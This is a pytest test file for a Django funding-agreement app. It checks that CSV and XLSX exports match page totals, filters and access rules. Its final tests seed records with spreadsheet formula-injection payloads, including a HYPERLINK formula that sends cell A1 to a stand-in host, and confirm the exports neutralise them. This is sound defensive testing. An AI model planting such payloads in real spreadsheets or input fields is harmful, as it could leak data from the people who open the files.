"""Every export opens (csv module, openpyxl) and sums to the page's totals."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agreements.models import Agreement, AgreementStatus
from funding import exports
from funding.exports import datasets
from funding.exports.writers import FORMULA_STARTS, to_csv
from funding.models import IndexSeries, IndexValue, PaymentPlan
from funding.payments import STATUS_LABELS as PAYMENT_LABELS
from funding.services import register_payment
from funding.summary import agreement_funding, line_expected_payments, lines_queryset
from funding.uplift import STATUS_LABELS as UPLIFT_LABELS
from tests.factories import make_agreement, make_line, make_party

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "csv-comma", "xlsx"]


def read(response, fmt):
    """Header and rows of an export response, as a spreadsheet user would see them."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(body)).active
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    else:
        text = body.decode("utf-8")
        if fmt == "csv":
            assert text.startswith("\ufeff")  # Swedish Excel needs the BOM
            text = text[1:]
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if fmt == "csv" else ","))
    return rows[0], rows[1:]


def column(header, rows, name):
    i = header.index(name)
    return [int(r[i]) for r in rows]


def export(client, dataset, fmt, **params):
    url = reverse("funding:export", args=[dataset, "csv" if fmt == "csv-comma" else fmt])
    if fmt == "csv-comma":
        params["format"] = "csv-comma"
    return client.get(url, params)


@pytest.mark.parametrize("fmt", FORMATS)
def test_shares_export_sums_to_the_agreement_page_totals(client, users, vb, fmt):
    client.force_login(users["alice"])
    response = export(client, "shares", fmt)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    header, rows = read(response, fmt)
    amounts = column(header, rows, "Belopp efter uppräkning (kr)")
    years = column(header, rows, "År")
    funding = agreement_funding(vb)
    assert sum(amounts) == funding.total
    for year, total in funding.totals_by_year().items():
        assert sum(a for a, y in zip(amounts, years, strict=True) if y == year) == total
    assert 1_831_113 in amounts


@pytest.mark.parametrize("fmt", FORMATS)
def test_payments_export_sums_to_the_payments_page(client, users, vb, fmt):
    register_payment(
        line=vb.funding_lines.get(), year=2026, paid_on=date(2026, 1, 20), amount=1_000_000
    )
    client.force_login(users["alice"])
    header, rows = read(export(client, "payments", fmt), fmt)
    assert sum(column(header, rows, "Belopp (kr)")) == agreement_funding(vb).total
    assert sum(column(header, rows, "Betalt (kr)")) == 1_000_000
    assert sum(column(header, rows, "Kvar (kr)")) == agreement_funding(vb).total - 1_000_000
    assert {r[header.index("Bankgiro")] for r in rows} == {"403-4849"}


@pytest.mark.parametrize("fmt", FORMATS)
def test_agreements_export_is_filtered_like_the_list(client, superuser, demo, fmt):
    client.force_login(superuser)
    header, rows = read(export(client, "agreements", fmt), fmt)
    assert len(rows) == Agreement.objects.count()
    header, rows = read(export(client, "agreements", fmt, status="ended"), fmt)
    assert len(rows) == 2 and {r[header.index("Status")] for r in rows} == {"Avslutad"}
    header, rows = read(export(client, "agreements", fmt, year="2027"), fmt)
    assert [r[header.index("Titel")] for r in rows] == [
        "Behandlingscenter för krigsskadade och torterade personer"
    ]
    assert (
        int(rows[0][header.index("Summa för perioden (kr)")]) == 1_726_000 + 1_777_780 + 1_831_113
    )
    header, rows = read(export(client, "agreements", fmt, q="barnverksamhet"), fmt)
    assert len(rows) == 3


def test_exports_show_only_agreements_the_user_may_see(client, users, vb, skane):
    client.force_login(users["olle"])  # Malmö stad: party to the Skåne agreements only
    header, rows = read(export(client, "agreements", "csv"), "csv")
    titles = {r[header.index("Titel")] for r in rows}
    assert titles == {"Barnverksamhet vid Röda Korsets behandlingscentrum i Malmö"}


def test_export_access_and_methods(client, users, vb):
    url = reverse("funding:export", args=["shares", "csv"])
    assert client.get(url).status_code == 302  # login first
    client.force_login(users["bob"])
    assert client.get(url).status_code == 200
    assert client.post(url).status_code == 405
    assert client.get(reverse("funding:export", args=["secrets", "csv"])).status_code == 404
    assert client.get(reverse("funding:export", args=["shares", "pdf"])).status_code == 404


# The agreements' ids in one query, then for each chunk of agreements at most this many.
QUERIES_PER_CHUNK = 5


@pytest.mark.parametrize("count, chunks", [(1, 1), (20, 1), (50, 3)])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("dataset", exports.DATASETS)
def test_export_reads_a_fixed_number_of_queries_per_chunk(
    db, django_assert_max_num_queries, monkeypatch, count, chunks, fmt, dataset
):
    monkeypatch.setattr(datasets, "CHUNK_SIZE", 20)
    region, org = make_party(kind="region"), make_party()
    series = IndexSeries.objects.create(name="Testindex")
    IndexValue.objects.create(
        series=series, year=2027, percent="2.500", status="preliminary", published_on="2026-10-01"
    )
    uplift = {"uplift_series": series, "uplift_first_year": 2027, "uplift_basis": "preliminary"}
    for n in range(count):
        agreement = make_agreement(region, org, status=AgreementStatus.ACTIVE)
        plain = make_line(agreement, region, {2026: 1000 + n, 2027: 1000}, receiver=org)
        uplifted = make_line(agreement, org, {2026: 500, 2027: 500}, position=1, **uplift)
        for line in (plain, uplifted):
            PaymentPlan.objects.create(line=line, bankgiro="403-4849")
    with django_assert_max_num_queries(1 + chunks * QUERIES_PER_CHUNK):
        body, _type, _name = exports.render(
            dataset, fmt, Agreement.objects.all(), today=date(2026, 6, 1)
        )
        if fmt == "csv":  # read as it is streamed
            body = b"".join(body)
    lines = body.count(b"\r\n") if fmt == "csv" else load_workbook(body).active.max_row
    assert lines == 1 + count * (1 if dataset == "agreements" else 4)


def test_export_rows_are_the_agreement_pages_figures(users, vb):
    """Shares with their uplift and explanation, and payments with their instalments, as the
    agreement and payment pages compute them line by line."""
    register_payment(
        line=vb.funding_lines.get(), year=2027, paid_on=date(2027, 1, 20), amount=500_000
    )
    today = date(2027, 6, 1)
    selected = Agreement.objects.filter(pk=vb.pk)
    _header, shares = exports.dataset_rows("shares", selected, today=today)
    shares = list(shares)
    funding = agreement_funding(vb)
    expected = [
        (vb.pk, vb.title, lf.line.party.name, lf.line.purpose, year.year, year.base)
        + (year.amount, UPLIFT_LABELS[year.status], year.explanation if year.steps else "")
        for group in funding.parties
        for lf in group.lines
        for year in lf.figures
    ]
    assert [tuple(r[:4]) + tuple(r[6:]) for r in shares] == expected
    assert any(r[-1] for r in shares) and any(r[-2] == "prognos" for r in shares)

    _header, payments = exports.dataset_rows("payments", selected, today=today)
    payments = list(payments)
    expected = [
        (e.year, f"{e.installment}/{e.installments}", e.due_date, e.amount, e.paid)
        + (e.outstanding, PAYMENT_LABELS[e.status], e.bankgiro, e.reference)
        for line in lines_queryset().filter(agreement=vb)
        for e in line_expected_payments(line, today=today)
    ]
    assert [tuple(r[4:]) for r in payments] == expected
    assert sum(r[8] for r in payments) == 500_000


@pytest.mark.parametrize("chunk_size", [1, 2, 500])
def test_exports_follow_the_list_order_and_each_agreements_lines(db, monkeypatch, chunk_size):
    monkeypatch.setattr(datasets, "CHUNK_SIZE", chunk_size)
    region, org, other = make_party(kind="region"), make_party(), make_party()
    late = make_agreement(region, org, other, start=date(2027, 1, 1), title="B")
    early = make_agreement(org, region, start=date(2026, 1, 1), title="A")
    empty = make_agreement(start=date(2027, 1, 1), title="A")  # no parties, no lines
    second = make_line(
        late, region, {2028: 30, 2027: 20}, position=1, purpose="andra", receiver=other
    )
    first = make_line(late, org, {2027: 10}, position=0, purpose="första", receiver=other)
    make_line(early, region, {2026: 5}, purpose="utan plan")
    for line in (first, second):
        PaymentPlan.objects.create(line=line, bankgiro="403-4849")
    today = date(2026, 6, 1)

    _header, rows = exports.dataset_rows("agreements", Agreement.objects.all(), today=today)
    assert [(r[0], r[7], r[8]) for r in rows] == [
        (empty.pk, "", 0),
        (late.pk, f"{region.name}, {org.name}, {other.name}", 60),
        (early.pk, f"{org.name}, {region.name}", 5),
    ]
    _header, rows = exports.dataset_rows("shares", Agreement.objects.all(), today=today)
    assert [(r[0], r[3], r[6], r[8]) for r in rows] == [
        (late.pk, "första", 2027, 10),
        (late.pk, "andra", 2027, 20),
        (late.pk, "andra", 2028, 30),
        (early.pk, "utan plan", 2026, 5),
    ]
    # A line without a payment plan has no payments.
    _header, rows = exports.dataset_rows("payments", Agreement.objects.all(), today=today)
    assert [(r[0], r[2], r[3], r[4], r[7]) for r in rows] == [
        (late.pk, org.name, other.name, 2027, 10),
        (late.pk, region.name, other.name, 2027, 20),
        (late.pk, region.name, other.name, 2028, 30),
    ]


@pytest.mark.parametrize("excel", [True, False])
def test_csv_is_what_the_csv_module_writes(excel):
    header = ["Id", "Text", "Datum", "Belopp", "Tom"]
    plain = [[n, f"rad {n}", date(2026, 1, n), Decimal("12.50"), ""] for n in range(1, 4)]
    tricky = [
        [1, 'citat "så"', date(2026, 1, 1), 3, None],
        [2, "semi;kolon, komma", date(2026, 1, 2), -4, True],
        [3, "rad\nbrytning\r", date(2026, 1, 3), Decimal("1.5"), "x"],
    ]
    for rows in (plain, tricky, plain + tricky, [[1, None]], [["", "a"], [None, ""]]):
        buffer = io.StringIO()
        if excel:
            buffer.write("\ufeff")
        writer = csv.writer(buffer, delimiter=";" if excel else ",", lineterminator="\r\n")
        writer.writerow(header)
        writer.writerows(rows)
        assert to_csv(header, rows, excel=excel) == buffer.getvalue().encode("utf-8")


def test_public_json_lists_active_agreements_without_personal_data(client, vb):
    response = client.get(reverse("funding:public_json"))
    assert response.status_code == 200
    data = json.loads(response.content)
    (agreement,) = data["agreements"]  # the Skåne agreements are ended or proposed
    assert agreement["title"] == vb.title
    assert [y["total"] for y in agreement["years"]] == [1_726_000, 1_777_780, 1_831_113]
    assert [y["forecast"] for y in agreement["years"]] == [False, False, True]
    assert agreement["index_examples"] == ["Exempelvärde för demo, ej SKR-publicerat"]
    assert {p["org_number"] for p in agreement["parties"]} == {"232100-0222", "802002-8711"}
    text = response.content.decode()
    for personal in ("Pia Näsvall", "Ulrika", "@example.se", "region.vasterbotten"):
        assert personal not in text


def test_public_csv_sums_to_the_json(client, vb):
    response = client.get(reverse("funding:public_csv"))
    assert response.status_code == 200
    header, rows = read(response, "csv")
    assert sum(int(r[header.index("amount_sek")]) for r in rows) == agreement_funding(vb).total
    assert client.post(reverse("funding:public_csv")).status_code == 405
    assert client.post(reverse("funding:public_json")).status_code == 405


def test_filters_match_the_list_page(client, superuser, demo):
    client.force_login(superuser)

    def titles(response, fmt="csv"):
        assert response.status_code == 200
        header, rows = read(response, fmt)
        return sorted(r[header.index("Titel")] for r in rows)

    listed = client.get(reverse("agreements:list"), {"q": "malmö stad"})
    by_party_name = titles(export(client, "agreements", "csv", q="malmö stad"))
    assert len(by_party_name) == 3
    assert by_party_name == sorted(a.title for a in listed.context["page"].object_list)
    filtered = export(client, "agreements", "xlsx", status="active", year="2026")
    assert titles(filtered, "xlsx") == sorted(
        Agreement.objects.filter(
            status="active", period_start__year__lte=2026, period_end__year__gte=2026
        ).values_list("title", flat=True)
    )


@pytest.mark.parametrize(
    "params, field",
    [
        ({"status": "bogus"}, "Status"),
        ({"year": "0000"}, "Gäller år"),
        ({"ending_within": "99999999999"}, "Slutar inom (månader)"),
        ({"q": "a\x00b"}, "Sök"),
        ({"party": "999999999"}, "Part"),
    ],
)
def test_a_wrong_filter_refuses_the_export_with_a_message(client, superuser, demo, params, field):
    client.force_login(superuser)
    response = export(client, "payments", "xlsx", **params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    text = response.content.decode()
    assert "Exporten kunde inte göras" in text
    assert f"<strong>{field}:</strong>" in text
    assert 'href="/overenskommelser/?' in text  # back to the list with the same selection


def test_export_links_partial_renders_with_the_lists_query(demo):
    from django.template.loader import render_to_string

    html = render_to_string("funding/_export_links.html", {"query": "status=active"})
    assert "/finansiering/export/shares.xlsx?status=active" in html
    assert "/finansiering/export/payments.csv?format=csv-comma&amp;status=active" in html


def test_agreement_list_links_to_exports_of_the_same_selection(client, demo):
    from django.contrib.auth import get_user_model
    from django.urls import reverse

    client.force_login(get_user_model().objects.get(username="region.skane"))
    response = client.get(reverse("agreements:list"), {"status": "ended", "sida": "1"})
    content = response.content.decode()
    assert reverse("funding:export", args=["agreements", "xlsx"]) + "?status=ended" in content
    exports = content.split('class="exports"')[1].split("</nav>")[0]
    assert "status=ended" in exports and "sida=" not in exports


# Text a spreadsheet program would run as a formula, one for each character that starts one.
FORMULAS = [
    '=HYPERLINK("https://example.se/?"&A1,"Klicka")',
    "+46 SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_agreement(db):
    """An active agreement whose every text a user typed starts like a formula."""
    region = make_party(FORMULAS[0], kind="region", unit=FORMULAS[5])
    org = make_party(FORMULAS[1])
    agreement = make_agreement(
        region, org, title=FORMULAS[2], case_number=FORMULAS[3], status=AgreementStatus.ACTIVE
    )
    amounts = {2026: 100_000, 2027: 50_000}
    line = make_line(
        agreement, region, amounts, purpose=FORMULAS[4], budget=FORMULAS[5], receiver=org
    )
    PaymentPlan.objects.create(line=line, bankgiro="403-4849", reference=FORMULAS[0])
    register_payment(line=line, year=2026, paid_on=date(2026, 1, 20), amount=1_000)
    return agreement


def csv_exports(client):
    """(name, response, format) of every CSV the app writes: each dataset in both CSV forms,
    and the open data."""
    for dataset in exports.DATASETS:
        for fmt in ("csv", "csv-comma"):
            yield f"{dataset}.{fmt}", export(client, dataset, fmt), fmt
    yield "public", client.get(reverse("funding:public_csv")), "csv"


def test_no_csv_cell_starts_like_a_formula(client, superuser, hostile_agreement):
    client.force_login(superuser)
    for name, response, fmt in csv_exports(client):
        assert response.status_code == 200, name
        header, rows = read(response, fmt)
        cells = header + [cell for row in rows for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], name
        # The text is all there, shown as typed behind the apostrophe.
        assert f"'{FORMULAS[2]}" in cells, name
        # Amounts are numbers still.
        amounts = [h for h in header if "(kr)" in h or h == "amount_sek"]
        assert amounts and all(int(r[header.index(h)]) >= 0 for h in amounts for r in rows)


def test_csv_decides_what_is_text_by_type_not_by_look():
    body = to_csv(["=Rubrik"], [[-5, Decimal("-1.5"), "-5", "=1+1", date(2026, 1, 2), None]])
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8")[1:]), delimiter=";"))
    assert header == ["'=Rubrik"]
    assert row == ["-5", "-1.5", "'-5", "'=1+1", "2026-01-02", ""]


@pytest.mark.parametrize("dataset", exports.DATASETS)
def test_xlsx_writes_formula_like_text_as_text(client, superuser, hostile_agreement, dataset):
    client.force_login(superuser)
    response = export(client, dataset, "xlsx")
    body = b"".join(response.streaming_content)
    cells = [c for row in load_workbook(io.BytesIO(body)).active.iter_rows() for c in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert FORMULAS[2] in texts  # as typed: an XLSX cell has a type, no apostrophe needed
